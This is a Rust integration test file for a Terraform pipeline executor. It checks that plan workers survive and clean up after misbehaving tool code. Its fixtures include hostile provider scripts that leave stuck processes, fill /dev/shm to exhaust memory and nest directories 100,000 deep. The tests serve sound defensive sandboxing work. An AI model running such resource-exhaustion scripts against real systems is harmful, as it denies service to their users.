        std::fs::write(self.0.join("cgroup.procs"), pid.to_string()).unwrap();
        std::fs::write(self.0.join("freezer.state"), "FROZEN").unwrap();
        poll_until(DEADLINE, &format!("{pid} to be frozen"), || {
            let state = std::fs::read_to_string(self.0.join("freezer.state")).unwrap();
            (state.trim() == "FROZEN").then_some(())
        });
    }

    /// Lets what it holds run again: a process killed while frozen dies now.
    fn thaw(&self) {
        std::fs::write(self.0.join("freezer.state"), "THAWED").unwrap();
    }
}

impl Drop for Freezer {
    fn drop(&mut self) {
        let _ = std::fs::write(self.0.join("freezer.state"), "THAWED");
        remove_cgroup(&self.0);
    }
}

/// Kills what the cgroup at `dir` holds, then removes it.
fn remove_cgroup(dir: &Path) {
    let procs = std::fs::read_to_string(dir.join("cgroup.procs")).unwrap_or_default();
    for pid in procs.split_whitespace() {
        let _ = std::process::Command::new("kill")
            .args(["-KILL", pid])
            .status();
    }
    // The group can go once its processes have exited. While a failed test unwinds, a second
    // panic would abort: then only try, for a few seconds.
    let started = std::time::Instant::now();
    let removed = || std::fs::remove_dir(dir).is_ok().then_some(());
    if !std::thread::panicking() {
        poll_until(
            DEADLINE,
            &format!("{} to be removed", dir.display()),
            removed,
        );
    } else {
        while removed().is_none() && started.elapsed() < std::time::Duration::from_secs(10) {
            std::thread::yield_now();
        }
    }
}

/// A dispatcher for the sandbox's pull requests of [`pull_request_with_a_provider`], and no
/// worker yet.
fn deployment_for_pull_requests_with_a_provider(sandbox: &Sandbox, vhost: &Vhost) -> Deployment {
    // No TF_CLI_CONFIG_FILE for tools: terraform finds the provider in the unit's
    // terraform.d/plugins.
    let config = sandbox.write_config(
        &vhost.url,
        &[("dev", "dev/**")],
        "\n[executor]\npass_env = []\n",
    );
    Deployment::start(sandbox.path(), &config, &[])
}

/// Starts a plan worker `name` of `dev` whose tools run as `uid`, and waits until it is ready.
fn start_ready_plan_worker(deployment: &mut Deployment, name: &str, uid: u32) {
    let tool_user = format!("{uid}:{uid}");
    deployment.start_executor_with(
        "dev:plan",
        name,
        &[("PIPELINES_EXECUTOR__TOOL_USER", tool_user.as_str())],
    );
    // An executor that exits instead fails the test with its log.
    poll_until(DEADLINE, &format!("{name} to be ready"), || {
        deployment.executor(name).assert_running();
        deployment
            .executor_log(name)
            .contains("Executor ready.")
            .then_some(())
    });
}

/// The provider of a pull request whose plan leaves a process behind: it writes the process's
/// pid to `dir/stuck.pid`, then waits for `dir/frozen` (the test freezes the process
/// meanwhile) and fails.
fn provider_leaving_a_process(dir: &Path) -> String {
    let dir = dir.display();
    format!(
        "#!/bin/sh\n\
         /usr/bin/python3 -c 'import time; time.sleep(3600)' </dev/null >/dev/null 2>&1 &\n\
         echo $! > {dir}/stuck.pid\n\
         while [ ! -e {dir}/frozen ]; do /bin/sleep 0.1; done\n\
         exit 1\n"
    )
}

#[test]
fn a_worker_whose_tool_user_has_a_process_the_kill_cannot_end_takes_no_further_job() {
    require_terraform();
    // A uid of this test's own.
    let uid: u32 = 61_023;
    let _stop_it_anyway = KillOnDrop(uid);
    let freezer = Freezer::new();
    let vhost = rabbit::vhost();
    let sandbox = Sandbox::new();
    // The tool user must pass through to its job directories.
    std::fs::set_permissions(sandbox.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let meeting = tempfile::Builder::new().prefix("stuck-").tempdir().unwrap();
    std::fs::set_permissions(meeting.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let (c0, c1, c2) = pull_request_with_a_provider(
        &sandbox,
        "stuck",
        &provider_leaving_a_process(meeting.path()),
    );
    let mut deployment = deployment_for_pull_requests_with_a_provider(&sandbox, &vhost);
    let tool_user = format!("{uid}:{uid}");
    let env = [("PIPELINES_EXECUTOR__TOOL_USER", tool_user.as_str())];
    let outlived = "1 process(es) of the tool user outlived the kill: no job may meet them";
    let stops_for_good = |deployment: &mut Deployment, name: &str| -> String {
        let exit = deployment.executor(name).wait_exit(DEADLINE);
        let log = deployment.forget_executor(name).log_text();
        assert!(!exit.success(), "{name} exited with {exit}:\n{log}");
        assert!(log.contains(outlived), "{log}");
        log
    };

    // After a job: the plan left a process that the kill at the job's end cannot end. The job
    // is reported, then the worker stops.
    start_ready_plan_worker(&mut deployment, "dev-plan-1", uid);
    let run = harness::runs::submit(&sandbox, &vhost, (&c1, &c2), "pull-request", &["--pr", "7"]);
    let stuck: u32 = poll_until(DEADLINE, "the plan to leave a process", || {
        std::fs::read_to_string(meeting.path().join("stuck.pid"))
            .ok()
            .and_then(|pid| pid.trim().parse().ok())
    });
    assert!(alive_processes_of(uid).contains(&stuck), "{stuck}");
    freezer.freeze(stuck);
    std::fs::write(meeting.path().join("frozen"), "").unwrap();
    let detail = wait_final(&sandbox, run);
    let job = harness::runs::job(&detail, "dev/stuck");
    assert_eq!(
        (job.state.as_str(), job.worker.as_deref()),
        ("failed", Some("dev-plan-1")),
        "{detail:#?}"
    );
    let log = job.log.as_deref().and_then(|log| log.split_once(':'));
    let log = std::fs::read_to_string(log.unwrap_or_else(|| panic!("{detail:#?}")).1).unwrap();
    assert!(
        log.contains("1 process(es) of the tool user were still alive"),
        "{log}"
    );
    stops_for_good(&mut deployment, "dev-plan-1");
    assert!(alive_processes_of(uid).contains(&stuck), "{stuck}");

    // At start: a worker does not start while it lives.
    deployment.start_executor_with("dev:plan", "dev-plan-2", &env);
    let log = stops_for_good(&mut deployment, "dev-plan-2");
    assert!(!log.contains("Executor ready."), "{log}");

    // Thawed, it dies of the SIGKILL it was sent.
    freezer.thaw();
    poll_until(DEADLINE, "the stuck process to die", || {
        (!alive_processes_of(uid).contains(&stuck)).then_some(())
    });

    // Before a job: a process of the tool user appeared while the worker waited for one (as
    // one of a job dropped with the broker's connection can). The job goes back to the queue
    // unrun, and the worker stops.
    start_ready_plan_worker(&mut deployment, "dev-plan-3", uid);
    // A process that only waits: frozen, it stands for one stuck in the kernel.
    let mut waiting = python_as(uid, "import time; time.sleep(3600)");
    freezer.freeze(waiting.id());
    let run = harness::runs::submit(&sandbox, &vhost, (&c0, &c1), "pull-request", &["--pr", "8"]);
    let log = stops_for_good(&mut deployment, "dev-plan-3");
    assert!(
        log.contains("processes of the worker's tool user outlived the kill"),
        "{log}"
    );
    let detail = harness::runs::status(&sandbox, run).unwrap();
    assert_eq!(detail.run.state, "running", "{detail:#?}");
    freezer.thaw();
    // It dies of the SIGKILL the worker sent; the test's own makes sure of it.
    let _ = waiting.kill();
    let _ = waiting.wait();

    // Nothing of the tool user is left: the next worker runs the job it gave back.
    start_ready_plan_worker(&mut deployment, "dev-plan-4", uid);
    let detail = wait_final(&sandbox, run);
    let job = harness::runs::job(&detail, "dev/app");
    assert_eq!(
        (job.state.as_str(), job.worker.as_deref()),
        ("succeeded", Some("dev-plan-4")),
        "{detail:#?}"
    );
    deployment.assert_running();
}

/// A cgroup v1 memory group of the test's own, inside the test's, limited to a number of bytes:
/// the memory limit a systemd unit (`MemoryMax`) or a pod sets for a worker and its tools. On
/// drop, what it holds is killed and it is removed.
struct MemoryGroup(PathBuf);

impl MemoryGroup {
    fn new(limit: u64) -> MemoryGroup {
        let root = Path::new("/sys/fs/cgroup/memory");
        assert!(
            root.join("tasks").exists(),
            "this test needs the cgroup v1 memory controller at {0}, to give a worker a memory limit of its own (as root: `mkdir -p {0} && mount -t cgroup -o memory memory {0}`)",
            root.display()
        );
        // Inside the test's own group, so that the test stays within whatever bounds it: its
        // path in the hierarchy, less the part above what is mounted here.
        let own = std::fs::read_to_string("/proc/self/cgroup").unwrap();
        let own = own
            .lines()
            .find_map(|line| {
                let (controllers, path) = line.split_once(':')?.1.split_once(':')?;
                controllers
                    .split(',')
                    .any(|c| c == "memory")
                    .then_some(path)
            })
            .unwrap_or("/");
        let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
        let mounted = mounts
            .lines()
            .find_map(|line| {
                let fields: Vec<&str> = line.split(' ').collect();
                (fields.get(4) == Some(&"/sys/fs/cgroup/memory")).then(|| fields[3])
            })
            .unwrap_or("/");
        let own = own.strip_prefix(mounted).unwrap_or(own);
        let dir = root
            .join(own.trim_start_matches('/'))
            .join(format!("pipelines-test-{}", Uuid::new_v4().simple()));
        std::fs::create_dir(&dir).unwrap_or_else(|err| panic!("{}: {err}", dir.display()));
        std::fs::write(dir.join("memory.limit_in_bytes"), limit.to_string()).unwrap();
        // Where swap is accounted, the limit holds for memory and swap together.
        let _ = std::fs::write(dir.join("memory.memsw.limit_in_bytes"), limit.to_string());
        MemoryGroup(dir)
    }

    /// Moves process `pid`, all its threads, in: what it starts from now on is in it too.
    fn enter(&self, pid: u32) {
        std::fs::write(self.0.join("cgroup.procs"), pid.to_string()).unwrap();
    }

    /// How many processes the kernel killed because the group ran out of memory.
    fn oom_kills(&self) -> u64 {
        let control = std::fs::read_to_string(self.0.join("memory.oom_control")).unwrap();
        control
            .lines()
            .find_map(|line| line.strip_prefix("oom_kill "))
            .unwrap_or_else(|| panic!("no oom_kill count in memory.oom_control:\n{control}"))
            .parse()
            .unwrap()
    }
}

impl Drop for MemoryGroup {
    fn drop(&mut self) {
        remove_cgroup(&self.0);
    }
}

/// How many bytes of `/dev/shm` are free, as `df` says.
fn shared_memory_free() -> u64 {
    let df = std::process::Command::new("df")
        .args(["-B1", "--output=avail", "/dev/shm"])
        .output()
        .expect("df runs");
    let said = String::from_utf8_lossy(&df.stdout);
    said.lines()
        .nth(1)
        .and_then(|line| line.trim().parse().ok())
        .unwrap_or_else(|| {
            panic!(
                "df -B1 --output=avail /dev/shm said {said:?} ({:?})",
                df.status
            )
        })
}

/// The provider of a pull request that fills `/dev/shm` (up to 4 GiB, far past any limit here):
/// memory that is no process's. The file's name says the provider's `oom_score_adj`.
const PROVIDER_FILLING_SHARED_MEMORY: &str = "#!/usr/bin/python3\n\
    adj = open('/proc/self/oom_score_adj').read().strip()\n\
    chunk = b'x' * (1 << 20)\n\
    with open('/dev/shm/filled-by-oom-score-adj-' + adj, 'wb') as f:\n    \
        for _ in range(4096):\n        \
            f.write(chunk)\n        \
            f.flush()\n";

#[test]
fn a_plan_that_takes_all_the_memory_is_killed_and_its_worker_goes_on() {
    require_terraform();
    // A uid of this test's own.
    let uid: u32 = 61_027;
    let _stop_it_anyway = KillOnDrop(uid);
    // Room for terraform and what the worker allocates once it is in (its memory from before
    // stays where it was charged), and not for the plan.
    let limit: u64 = 512 << 20;
    // The plan fills its group through /dev/shm: with less free there than the group holds,
    // it would run out of room instead, and this test would prove nothing.
    let free = shared_memory_free();
    assert!(
        free > limit,
        "this test needs more than {} MiB free in /dev/shm, where the plan writes what fills its memory group; {} MiB are (as root: `mount -o remount,size=1G /dev/shm`)",
        limit >> 20,
        free >> 20
    );
    let group = MemoryGroup::new(limit);
    let (vhost, sandbox, mut deployment, (c0, c1, c2)) =
        a_plan_worker_and_a_pull_request_with_a_provider(
            uid,
            "filling",
            PROVIDER_FILLING_SHARED_MEMORY,
        );
    // Idle, it has started nothing: the tools of its jobs start in the group.
    let worker = deployment.executor_pid("dev-plan-1");
    group.enter(worker);

    let (_, detail) =
        the_pull_request_fails_on_the_plan_worker(&sandbox, &vhost, (&c1, &c2), "dev/filling");
    let job = harness::runs::job(&detail, "dev/filling");
    let log = deployment.executor_log("dev-plan-1");
    assert!(
        group.oom_kills() > 0,
        "the plan never ran out of memory:\n{log}"
    );
    // The kernel killed a tool (terraform, its provider or its supervisor), not the worker: it
    // picks the process with the most memory after adding its `oom_score_adj`, which the
    // supervisor sets to the most for every tool, so that even a small one goes before the
    // worker. (Here terraform is larger than the worker anyway: the file's name below shows
    // the score the tools had.)
    deployment.executor("dev-plan-1").assert_running();
    // What the plan left in /dev/shm, which would keep the group full, went with the job, and
    // the job says so. (The file's name is the provider's `oom_score_adj`.)
    let reason = job.reason.as_deref().unwrap_or_default();
    assert!(
        reason.contains("/dev/shm/filled-by-oom-score-adj-1000"),
        "{detail:#?}"
    );
    let left = shared_memory_files_of(uid).unwrap();
    assert!(left.is_empty(), "{left:?}\n{log}");

    assert_the_same_worker_plans_the_next_pull_request(
        &sandbox,
        &vhost,
        &mut deployment,
        (&c0, &c1),
        worker,
    );
}

/// A vhost, a sandbox whose pull request's unit `dev/<name>` has `provider` (see
/// [`pull_request_with_a_provider`], whose commits it returns), and a deployment with the
/// ready plan worker `dev-plan-1`, whose tools run as `uid`.
fn a_plan_worker_and_a_pull_request_with_a_provider(
    uid: u32,
    name: &str,
    provider: &str,
) -> (Vhost, Sandbox, Deployment, (String, String, String)) {
    let vhost = rabbit::vhost();
    let sandbox = Sandbox::new();
    // The tool user must pass through to its job directories.
    std::fs::set_permissions(sandbox.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let commits = pull_request_with_a_provider(&sandbox, name, provider);
    let mut deployment = deployment_for_pull_requests_with_a_provider(&sandbox, &vhost);
    start_ready_plan_worker(&mut deployment, "dev-plan-1", uid);
    (vhost, sandbox, deployment, commits)
}

/// Submits the pull request `c1..c2` (number 7) and fails unless `unit`'s job failed on the
/// plan worker `dev-plan-1`: the run and its final detail.
fn the_pull_request_fails_on_the_plan_worker(
    sandbox: &Sandbox,
    vhost: &Vhost,
    (c1, c2): (&str, &str),
    unit: &str,
) -> (Uuid, proto_types::RunDetail) {
    let run = harness::runs::submit(sandbox, vhost, (c1, c2), "pull-request", &["--pr", "7"]);
    let detail = wait_final(sandbox, run);
    let job = harness::runs::job(&detail, unit);
    assert_eq!(
        (job.state.as_str(), job.worker.as_deref()),
        ("failed", Some("dev-plan-1")),
        "{detail:#?}"
    );
    (run, detail)
}

/// Fails unless the plan worker `dev-plan-1`, still the process `pid`, plans the next pull
/// request (`c0..c1`, the unit `dev/app` of [`pull_request_with_a_provider`]), and every
/// service still runs.
fn assert_the_same_worker_plans_the_next_pull_request(
    sandbox: &Sandbox,
    vhost: &Vhost,
    deployment: &mut Deployment,
    (c0, c1): (&str, &str),
    pid: u32,
) {
    let run = harness::runs::submit(sandbox, vhost, (c0, c1), "pull-request", &["--pr", "8"]);
    let detail = wait_final(sandbox, run);
    let job = harness::runs::job(&detail, "dev/app");
    assert_eq!(
        (job.state.as_str(), job.worker.as_deref()),
        ("succeeded", Some("dev-plan-1")),
        "{detail:#?}"
    );
    assert_eq!(deployment.executor_pid("dev-plan-1"), pid);
    deployment.assert_running();
}

/// The provider of a pull request that nests directories 100,000 deep, past the open-file
/// limit and past what a removal that recursed could take on its stack: once in `/dev/shm`,
/// once where terraform starts it (the unit's directory in the job's checkout). Then it says
/// so, in one word, where terraform expects its handshake (which terraform quotes in its
/// error, wrapped at spaces).
const PROVIDER_NESTING_DIRECTORIES: &str = "#!/usr/bin/python3\n\
    import os\n\
    def nest(top):\n    \
        os.mkdir(top)\n    \
        os.chdir(top)\n    \
        for _ in range(100000):\n        \
            os.mkdir('d')\n        \
            os.chdir('d')\n    \
        open('bottom', 'w').write('held')\n\
    unit = os.getcwd()\n\
    nest('/dev/shm/nested-by-a-plan')\n\
    nest(os.path.join(unit, 'nested-by-a-plan'))\n\
    print('nested-100000-deep-in-dev-shm-and-the-job-directory', flush=True)\n";

#[test]
fn a_plan_that_nests_directories_past_every_limit_leaves_nothing_and_its_worker_goes_on() {
    require_terraform();
    // A uid of this test's own.
    let uid: u32 = 61_028;
    let _stop_it_anyway = KillOnDrop(uid);
    let (vhost, sandbox, mut deployment, (c0, c1, c2)) =
        a_plan_worker_and_a_pull_request_with_a_provider(
            uid,
            "nesting",
            PROVIDER_NESTING_DIRECTORIES,
        );
    let worker = deployment.executor_pid("dev-plan-1");

    let (run, detail) =
        the_pull_request_fails_on_the_plan_worker(&sandbox, &vhost, (&c1, &c2), "dev/nesting");
    let job = harness::runs::job(&detail, "dev/nesting");
    let log = deployment.executor_log("dev-plan-1");
    // The plan did nest, both times (its provider says so, which terraform quotes), and both
    // trees went with the job: its output says what was removed from /dev/shm.
    let (output, _) = harness::runs::stored_log(&sandbox, run, job.job_id);
    let output = std::fs::read_to_string(output).unwrap();
    assert!(
        output.contains("nested-100000-deep-in-dev-shm-and-the-job-directory"),
        "{output}\n{log}"
    );
    assert!(
        output.contains("left in the shared temporary directories: /dev/shm/nested-by-a-plan"),
        "{output}\n{log}"
    );
    let left = shared_memory_files_of(uid).unwrap();
    assert!(left.is_empty(), "{left:?}\n{log}");
    let jobs = sandbox.path().join("work/dev-plan-1/jobs");
    let job_dirs: Vec<PathBuf> = std::fs::read_dir(&jobs)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    assert!(job_dirs.is_empty(), "{job_dirs:?}\n{log}");

    assert_the_same_worker_plans_the_next_pull_request(
        &sandbox,
        &vhost,
        &mut deployment,
        (&c0, &c1),
        worker,
    );
}

/// Asserts that `finished` refused to start because `tool_user` owns the plugin `cache`.
fn assert_refused_for_a_cache_owned_by(
    finished: &harness::process::Finished,
    cache: &Path,
    tool_user: u32,
) {
    assert_refused_saying(
        finished,
        &format!(
            "the tools' TF_PLUGIN_CACHE_DIR ({}) is owned by the tool user ({tool_user})",
            cache.display(),
        ),
    );
    assert_refused_saying(finished, "later jobs run");
}

/// Asserts that `finished` refused to start (exit 2) saying `says`.
fn assert_refused_saying(finished: &harness::process::Finished, says: &str) {
    assert_eq!(finished.code(), Some(2), "{}", finished.transcript());
    assert!(finished.stderr.contains(says), "{}", finished.transcript());
}

#[test]
fn config_check_refuses_what_a_plan_worker_would_refuse_at_start() {
    let sandbox = Sandbox::new();
    let tool_user: u32 = 61_026;
    let cache = sandbox.dir("plugin-cache");
    std::os::unix::fs::chown(&cache, Some(tool_user), Some(tool_user)).unwrap();
    let password = sandbox.path().join("broker-password");
    std::fs::write(&password, "s3cret").unwrap();
    std::fs::set_permissions(&password, std::fs::Permissions::from_mode(0o400)).unwrap();
    let config = sandbox.write_config(
        "amqp://pipelines-executor@127.0.0.1:5672/%2f",
        &[("dev", "dev/**")],
        &format!(
            "\n[executor]\ntool_env = {{ TF_PLUGIN_CACHE_DIR = \"{}\" }}\n",
            cache.display()
        ),
    );
    let check_as = |role: &str, tool_user: Option<u32>| {
        let mut command = sandbox.pipelines(&[
            "config",
            "check",
            config.to_str().unwrap(),
            "--account",
            "dev",
            "--role",
            role,
        ]);
        command.env("PIPELINES_BROKER_PASSWORD_FILE", &password);
        if let Some(uid) = tool_user {
            command.env("PIPELINES_EXECUTOR__TOOL_USER", format!("{uid}:{uid}"));
        }
        harness::process::run(command, DEADLINE)
    };
    let check = || check_as("plan", Some(tool_user));
    // A plugin cache the plan's tool user owns: the worker's own words, before it is started.
    let refused = check();
    assert_refused_for_a_cache_owned_by(&refused, &cache, tool_user);
    // An apply worker runs reviewed code: its tool user's writes are not refused, and the
    // check says which it made.
    let apply = check_as("apply", Some(tool_user));
    assert_eq!(apply.code(), Some(0), "{}", apply.transcript());
    assert!(
        apply.stdout.contains(
            "an apply worker of dev can start here: its tool user cannot read the broker \
             password file; what its tools read (PATH, tf_binary, plugin cache, mirrors, CLI \
             configuration) is not writable by every user\n"
        ),
        "{}",
        apply.transcript()
    );
    // A broker password file the tool user owns.
    std::os::unix::fs::chown(&cache, Some(0), Some(0)).unwrap();
    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::chown(&password, Some(tool_user), Some(tool_user)).unwrap();
    assert_refused_saying(
        &check(),
        &format!(
            "broker_password_file {} (owner {tool_user}, group {tool_user}, mode 400) is owned by the tool user {tool_user}:{tool_user}",
            password.display(),
        ),
    );
    // Both root's: the check passes and says what it checked.
    std::os::unix::fs::chown(&password, Some(0), Some(0)).unwrap();
    let passed = check();
    assert_eq!(passed.code(), Some(0), "{}", passed.transcript());
    assert!(
        passed.stdout.contains(
            "a plan worker of dev can start here: it cannot read the apply identity's token file \
             (if any); its tool user cannot read the broker password file; what its tools read \
             (PATH, tf_binary, plugin cache, mirrors, CLI configuration) is writable neither by \
             every user nor by its tool user\n"
        ) && !passed.stdout.contains("no tool user"),
        "{}",
        passed.transcript()
    );
    // Without a tool user the tools are the worker: it may start, and is told what that means.
    let without = check_as("plan", None);
    assert_eq!(without.code(), Some(0), "{}", without.transcript());
    assert!(
        without.stdout.contains(
            "a plan worker of dev can start here: it cannot read the apply identity's token file \
             (if any); what its tools read (PATH, tf_binary, plugin cache, mirrors, CLI \
             configuration) is not writable by every user\n"
        ) && without.stdout.contains(
            "warning: no tool user is set here (executor.tool_user, or \
             PIPELINES_EXECUTOR__TOOL_USER): a worker started so runs the tools as itself"
        ),
        "{}",
        without.transcript()
    );
}

#[test]
fn a_plan_worker_refuses_a_plugin_cache_its_tool_user_could_fill() {
    let vhost = rabbit::vhost();
    let sandbox = Sandbox::new();
    let tool_user: u32 = 61_024;
    // A plugin cache the plan's tool user owns: what one plan puts there, the next plan runs.
    let cache = sandbox.dir("plugin-cache");
    std::os::unix::fs::chown(&cache, Some(tool_user), Some(tool_user)).unwrap();
    let config = sandbox.write_config(
        &vhost.url,
        &[("dev", "dev/**")],
        &format!(
            "\n[executor]\ntool_env = {{ TF_PLUGIN_CACHE_DIR = \"{}\" }}\n",
            cache.display()
        ),
    );
    let start = |role: &str| {
        let work = sandbox.dir(&format!("work-{role}"));
        let mut command = sandbox.pipelines(&[
            "execute",
            "--config",
            config.to_str().unwrap(),
            "--account",
            "dev",
            "--role",
            role,
            "--work-dir",
            work.to_str().unwrap(),
        ]);
        command.env(
            "PIPELINES_EXECUTOR__TOOL_USER",
            format!("{tool_user}:{tool_user}"),
        );
        harness::process::run(command, DEADLINE)
    };
    let refused = start("plan");
    assert_refused_for_a_cache_owned_by(&refused, &cache, tool_user);
    // Anyone may write into it: every worker refuses it, an apply worker too.
    std::os::unix::fs::chown(&cache, Some(0), Some(0)).unwrap();
    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o777)).unwrap();
    assert_refused_saying(&start("apply"), "has mode 777: anyone may write");
    // Root's, and closed to others, but `setfacl -m u:61024:rwx` lets the tool user in: the
    // mode bits read 775, with root's group.
    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o755)).unwrap();
    let acl = format!(
        "import os, struct; os.setxattr({:?}, 'system.posix_acl_access', struct.pack('<I', 2) + \
         b''.join(struct.pack('<HHI', *e) for e in [(1, 7, 2**32 - 1), (2, 7, {tool_user}), \
         (4, 5, 2**32 - 1), (0x10, 7, 2**32 - 1), (0x20, 5, 2**32 - 1)]))",
        cache.display().to_string()
    );
    let status = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &acl])
        .status()
        .unwrap();
    assert!(status.success());
    assert_refused_saying(
        &start("plan"),
        &format!(
            "the tools' TF_PLUGIN_CACHE_DIR ({}) has mode 775 and an access control list that lets the tool user ({tool_user}) write into it",
            cache.display(),
        ),
    );
}
